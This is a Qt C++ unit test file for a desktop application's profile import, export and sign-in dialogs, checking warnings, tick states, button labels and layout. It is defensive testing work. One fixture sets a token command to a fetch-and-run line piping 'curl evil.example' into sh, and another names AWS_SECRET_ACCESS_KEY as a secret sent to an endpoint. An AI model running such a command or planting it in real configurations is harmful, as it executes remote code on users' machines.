#include "dialogchecks.h"
#include "exportdialog.h"
#include "importdialog.h"
#include "noticebox.h"
#include "resources.h"
#include "signindialog.h"
#include "wraplabel.h"

#include <QApplication>
#include <QClipboard>
#include <QLabel>
#include <QLineEdit>
#include <QListWidget>
#include <QPointer>
#include <QPushButton>
#include <QSignalSpy>
#include <QTest>
#include <QTreeWidget>

using namespace groupdesk;
using namespace Qt::StringLiterals;
using State = ImportLine::State;

namespace {

ImportLine line(const QString &name, State state, const QStringList &changed = {})
{
    Profile profile;
    profile.id = ProfileId(name);
    profile.name = name;
    profile.platform = PlatformId(u"braintrust"_s);
    profile.baseUrl = QUrl(u"https://api.example"_s);
    return { profile, state, changed };
}

struct ImportFixture
{
    explicit ImportFixture(const QList<ImportLine> &lines, int skipped = 0)
        : dialog(new ImportDialog(lines, testPlatforms(), skipped))
    {
        QObject::connect(dialog, &ImportDialog::importRequested, dialog,
                         [this](const QList<Profile> &profiles) { imported = profiles; });
        dialog->open();
    }
    ~ImportFixture() { delete dialog; }
    Q_DISABLE_COPY_MOVE(ImportFixture)

    [[nodiscard]] QTreeWidgetItem *item(int row) const
    {
        return dialog->findChild<QTreeWidget *>(u"importList"_s)->topLevelItem(row);
    }
    [[nodiscard]] QPushButton *button() const
    {
        return dialog->findChild<QPushButton *>(u"importButton"_s);
    }
    [[nodiscard]] QString warnings() const
    {
        return dialog->findChild<WrapLabel *>(u"importWarnings"_s)->text();
    }

    QPointer<ImportDialog> dialog;
    QList<Profile> imported;
};

} // namespace

/// The dialogs around profiles: import, export, sign-in.
class tst_ImportDialog : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase() { initResources(); }
    void newOnesAreTicked();
    void whatIsTheSameCannotBeTicked();
    void changesAreNamed();
    void aCommandIsShownInFullAndNotTicked();
    void aCommandThatDoesNotRunIsShown();
    void aVariableIsNamed();
    void anotherEndpointIsWarnedAbout();
    void unusableProfilesSayWhy();
    void theButtonSaysHowMany();
    void cancelImportsNothing();
    void namesAreTakenLiterally();
    void exportNamesWhatIsTicked();
    void dialogsFit_data();
    void dialogsFit();
    void theSignInShowsItsAddress();
    void aFailedSignInCanBeTriedAgain();
    void closingTheSignInCancelsIt();
};

void tst_ImportDialog::newOnesAreTicked()
{
    const ImportFixture f({ line(u"one"_s, State::New), line(u"two"_s, State::New) });
    QCOMPARE(f.item(0)->checkState(0), Qt::Checked);
    QCOMPARE(f.dialog->chosen().size(), 2);
    QVERIFY(f.imported.isEmpty());
    f.button()->click();
    QCOMPARE(f.imported.size(), 2);
    QCOMPARE(f.imported.constFirst().name, u"one"_s);
    QTRY_VERIFY(f.dialog == nullptr);
}

void tst_ImportDialog::whatIsTheSameCannotBeTicked()
{
    const ImportFixture f({ line(u"one"_s, State::Same) });
    QVERIFY(!f.item(0)->flags().testFlag(Qt::ItemIsEnabled));
    QCOMPARE(f.item(0)->checkState(0), Qt::Unchecked);
    QVERIFY(f.item(0)->text(1).contains(u"same"_s));
    QVERIFY(!f.button()->isEnabled());
}

void tst_ImportDialog::changesAreNamed()
{
    const ImportFixture f({ line(u"one"_s, State::Changed, { u"name"_s, u"timeouts"_s }) });
    QCOMPARE(f.item(0)->text(1), u"Changes: name, time-outs"_s);
    QCOMPARE(f.item(0)->checkState(0), Qt::Checked);
    // Every field that can differ has a word of its own.
    Profile before;
    Profile after;
    after.id = before.id;
    after.name = u"x"_s;
    after.platform = PlatformId(u"x"_s);
    after.baseUrl = QUrl(u"https://x"_s);
    after.onlyOrganizations = { u"x"_s };
    after.endpointClass = EndpointClass::Demo;
    after.folder = u"x"_s;
    after.startReadOnly = true;
    after.signIn = SignInMethod::Browser;
    after.oauth.clientId = u"x"_s;
    after.tokenSource = TokenSource::Ask;
    after.tokenVariable = u"x"_s;
    after.tokenCommand = u"x"_s;
    after.network.proxy.host = u"x"_s;
    after.network.caFile = u"x"_s;
    after.network.totalLimit = std::chrono::seconds(1);
    after.options.insert(u"x"_s, u"x"_s);
    after.unknown.insert(u"x"_s, 1);
    const QStringList fields = changedFields(before, after);
    QCOMPARE(fields.size(), 17);
    const ImportFixture g({ line(u"one"_s, State::Changed, fields) });
    const QString words = g.item(0)->text(1);
    for (const QString &key :
         { u"baseUrl"_s, u"startReadOnly"_s, u"signIn"_s, u"oauth"_s, u"tokenSource"_s,
           u"tokenVariable"_s, u"tokenCommand"_s, u"caFile"_s, u"timeouts"_s })
        QVERIFY2(!words.contains(key), qPrintable(words));
}

void tst_ImportDialog::aCommandIsShownInFullAndNotTicked()
{
    ImportLine risky = line(u"ci"_s, State::New);
    risky.profile.tokenSource = TokenSource::Command;
    risky.profile.tokenCommand = u"sh -c \"curl evil.example | sh\" "_s + QString(300, u'x');
    const ImportFixture f({ risky, line(u"fine"_s, State::New) });
    QCOMPARE(f.item(0)->checkState(0), Qt::Unchecked);
    QVERIFY(f.warnings().contains(risky.profile.tokenCommand));
    QVERIFY(f.warnings().contains(u"api.example"_s));
    f.button()->click();
    QCOMPARE(f.imported.size(), 1);
    QCOMPARE(f.imported.constFirst().name, u"fine"_s);
}

void tst_ImportDialog::aCommandThatDoesNotRunIsShown()
{
    ImportLine quiet = line(u"ci"_s, State::New);
    quiet.profile.tokenSource = TokenSource::Ask;
    quiet.profile.tokenCommand = u"op read token"_s;
    const ImportFixture f({ quiet });
    QVERIFY(f.warnings().contains(u"runs only after you chose it"_s));
    QVERIFY(f.warnings().contains(u"op read token"_s));
}

void tst_ImportDialog::aVariableIsNamed()
{
    ImportLine risky = line(u"ci"_s, State::New);
    risky.profile.tokenSource = TokenSource::Environment;
    risky.profile.tokenVariable = u"AWS_SECRET_ACCESS_KEY"_s;
    const ImportFixture f({ risky });
    QVERIFY(f.warnings().contains(u"AWS_SECRET_ACCESS_KEY to api.example"_s));
    QCOMPARE(f.item(0)->checkState(0), Qt::Unchecked);
    f.item(0)->setCheckState(0, Qt::Checked);
    QCOMPARE(f.dialog->chosen().size(), 1);
}

void tst_ImportDialog::anotherEndpointIsWarnedAbout()
{
    const ImportFixture f({ line(u"one"_s, State::Changed, { u"baseUrl"_s }) });
    QVERIFY(f.warnings().contains(u"where requests go"_s));
    QCOMPARE(f.item(0)->checkState(0), Qt::Unchecked);
    const ImportFixture g({ line(u"one"_s, State::Changed, { u"class"_s }) });
    QVERIFY(g.warnings().isEmpty());
}

void tst_ImportDialog::unusableProfilesSayWhy()
{
    ImportLine broken = line(u"one"_s, State::New);
    broken.profile.baseUrl = QUrl(u"http://api.example"_s);
    const ImportFixture f({ broken });
    QVERIFY(f.item(0)->text(1).contains(u"https"_s));
    QVERIFY(!f.item(0)->flags().testFlag(Qt::ItemIsEnabled));
    ImportLine strange = line(u"two"_s, State::New);
    strange.profile.platform = PlatformId(u"fourth"_s);
    const ImportFixture g({ strange });
    QVERIFY(g.item(0)->text(2).contains(u"fourth"_s));
}

void tst_ImportDialog::theButtonSaysHowMany()
{
    const ImportFixture f({ line(u"one"_s, State::New), line(u"two"_s, State::New) }, 3);
    QCOMPARE(f.button()->text(), u"&Import 2 Profiles"_s);
    f.item(0)->setCheckState(0, Qt::Unchecked);
    QCOMPARE(f.button()->text(), u"&Import One Profile"_s);
    f.item(1)->setCheckState(0, Qt::Unchecked);
    QVERIFY(!f.button()->isEnabled());
    QVERIFY(f.dialog->findChild<QLabel *>(u"importSummary"_s)->text().contains(u"3 entry"_s));
}

void tst_ImportDialog::cancelImportsNothing()
{
    const ImportFixture f({ line(u"one"_s, State::New) });
    QTest::keyClick(f.dialog, Qt::Key_Escape);
    QTRY_VERIFY(f.dialog == nullptr);
    QVERIFY(f.imported.isEmpty());
}

void tst_ImportDialog::namesAreTakenLiterally()
{
    const ImportFixture f({ line(u"<b>one</b>\u202E"_s, State::New) });
    QCOMPARE(f.item(0)->text(0), u"<b>one</b>\ufffd"_s);
    QCOMPARE(richTexts(*f.dialog), QStringList());
    QCOMPARE(unnamedFields(*f.dialog), QStringList());
}

void tst_ImportDialog::exportNamesWhatIsTicked()
{
    QPointer<ExportDialog> dialog = new ExportDialog(
        { line(u"one"_s, State::New).profile, line(u"two"_s, State::New).profile });
    dialog->open();
    auto *list = dialog->findChild<QListWidget *>(u"exportList"_s);
    auto *button = dialog->findChild<QPushButton *>(u"exportButton"_s);
    QCOMPARE(button->text(), u"&Export 2 Profiles…"_s);
    list->item(0)->setCheckState(Qt::Unchecked);
    QList<Profile> wanted;
    connect(dialog, &ExportDialog::exportRequested, this,
            [&wanted](const QList<Profile> &profiles) { wanted = profiles; });
    QCOMPARE(unnamedFields(*dialog), QStringList());
    button->click();
    QCOMPARE(wanted.size(), 1);
    QCOMPARE(wanted.constFirst().name, u"two"_s);
    QTRY_VERIFY(dialog == nullptr);
}

void tst_ImportDialog::dialogsFit_data()
{
    QTest::addColumn<bool>("largeFont");
    QTest::addColumn<bool>("longWords");
    QTest::newRow("plain") << false << false;
    QTest::newRow("large") << true << false;
    QTest::newRow("long words") << false << true;
}

void tst_ImportDialog::dialogsFit()
{
    QFETCH(bool, largeFont);
    QFETCH(bool, longWords);
    const WithSurroundings surroundings(largeFont, longWords, false);
    ImportLine risky = line(u"ci"_s, State::New);
    risky.profile.tokenSource = TokenSource::Command;
    risky.profile.tokenCommand = u"op read token"_s;
    const ImportFixture f({ risky, line(u"two"_s, State::Changed, { u"baseUrl"_s }) }, 1);
    QVERIFY(QTest::qWaitForWindowExposed(f.dialog));
    QVERIFY(f.dialog->width() <= 1024 && f.dialog->height() <= 700);
    QTRY_COMPARE(cutTexts(*f.dialog), QStringList());
    QPointer<SignInDialog> signIn = new SignInDialog(u"acme"_s);
    signIn->show();
    QVERIFY(QTest::qWaitForWindowExposed(signIn));
    QVERIFY(signIn->width() <= 1024 && signIn->height() <= 700);
    QTRY_COMPARE(cutTexts(*signIn), QStringList());
    delete signIn;
}

void tst_ImportDialog::theSignInShowsItsAddress()
{
    QPointer<SignInDialog> dialog = new SignInDialog(u"acme"_s, nullptr, std::chrono::minutes(5));
    dialog->show();
    auto *address = dialog->findChild<QLineEdit *>(u"signInAddressEdit"_s);
    QVERIFY(!address->isVisible());
    dialog->setAddress(QUrl(u"https://id.example/authorize?state=a%20b"_s));
    QVERIFY(address->isVisible());
    dialog->findChild<QPushButton *>(u"signInCopyButton"_s)->click();
    QCOMPARE(QApplication::clipboard()->text(), u"https://id.example/authorize?state=a%20b"_s);
    QVERIFY(dialog->findChild<QLabel *>(u"signInLeft"_s)->text().startsWith(u"5:00"_s)
            || dialog->findChild<QLabel *>(u"signInLeft"_s)->text().startsWith(u"4:59"_s));
    QVERIFY(!dialog->isModal());
    QCOMPARE(unnamedFields(*dialog), QStringList());
    const QSignalSpy cancelled(dialog, &SignInDialog::cancelled);
    dialog->succeed();
    QCOMPARE(cancelled.size(), 0);
    QTRY_VERIFY(dialog == nullptr);
}

void tst_ImportDialog::aFailedSignInCanBeTriedAgain()
{
    QPointer<SignInDialog> dialog = new SignInDialog(u"acme"_s);
    dialog->show();
    const QSignalSpy retried(dialog, &SignInDialog::retryRequested);
    const QSignalSpy cancelled(dialog, &SignInDialog::cancelled);
    dialog->fail({ u"Nobody answered."_s, u"Try again."_s, {}, {} });
    auto *notice = dialog->findChild<NoticeBox *>(u"signInNotice"_s);
    QVERIFY(notice->isVisible());
    QVERIFY(notice->text().contains(u"Nobody answered."_s));
    dialog->findChild<QPushButton *>(u"signInRetryButton"_s)->click();
    QCOMPARE(retried.size(), 1);
    QVERIFY(!notice->isVisible());
    dialog->fail({ u"Nobody answered."_s, {}, {}, {} });
    QTest::keyClick(dialog, Qt::Key_Escape);
    QCOMPARE(cancelled.size(), 0); // there is nothing to cancel any more
    QTRY_VERIFY(dialog == nullptr);
}

void tst_ImportDialog::closingTheSignInCancelsIt()
{
    QPointer<SignInDialog> dialog = new SignInDialog(u"acme"_s);
    dialog->show();
    const QSignalSpy cancelled(dialog, &SignInDialog::cancelled);
    QTest::keyClick(dialog, Qt::Key_Escape);
    QCOMPARE(cancelled.size(), 1);
    QTRY_VERIFY(dialog == nullptr);
}

QTEST_MAIN(tst_ImportDialog)
#include "tst_importdialog.moc"
